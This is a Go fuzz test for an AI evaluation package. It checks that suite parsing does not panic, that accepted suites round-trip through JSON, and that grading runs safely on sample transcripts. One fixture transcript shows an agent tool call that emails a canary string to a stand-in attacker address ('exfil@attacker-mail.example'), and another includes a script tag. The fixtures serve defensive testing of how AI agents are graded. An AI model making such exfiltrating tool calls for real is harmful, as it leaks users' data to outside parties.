package eval

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// FuzzParseSuite feeds arbitrary sources to ParseSuite: it must not panic,
// a suite it accepts must round-trip through its JSON form, and grading its
// cases against a few transcripts must not panic either. The committed
// corpus is in testdata/fuzz/FuzzParseSuite; the good and bad suites seed it
// too. A CI-sized run:
//
//	go test ./internal/eval -run '^$' -fuzz FuzzParseSuite -fuzztime 60s -fuzzminimizetime 5s
func FuzzParseSuite(f *testing.F) {
	for _, pattern := range []string{"testdata/good/*", "testdata/bad/*.yaml", "testdata/bad/*.json"} {
		files, _ := filepath.Glob(pattern)
		for _, file := range files {
			src, err := os.ReadFile(file)
			if err != nil {
				f.Fatal(err)
			}
			f.Add(src)
		}
	}
	transcripts := []*Transcript{
		say(""),
		say("I can't help with that. 42 <script>x</script>"),
		say(`{"name":"x"}`, call("send_email", `{"to":["exfil@attacker-mail.example"],"body":"CANARY-7f3a91c2"}`), call("refund", `nonsense`)),
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		s, err := ParseSuite("fuzz.yaml", src)
		if err != nil {
			if _, ok := err.(*LoadError); !ok {
				t.Fatalf("got error %T, want *LoadError", err)
			}
			return
		}
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatalf("marshaling an accepted suite: %v", err)
		}
		s2, err := ParseSuite("fuzz.json", b)
		if err != nil {
			t.Fatalf("JSON form of an accepted suite does not parse: %v\n%s", err, b)
		}
		if b2, _ := json.Marshal(s2); string(b2) != string(b) {
			t.Fatalf("JSON form does not round-trip:\n%s\n%s", b, b2)
		}
		for i := range s.Cases {
			for _, tr := range transcripts {
				Grade(context.Background(), &s.Cases[i], tr, nil, nil)
			}
		}
	})
}
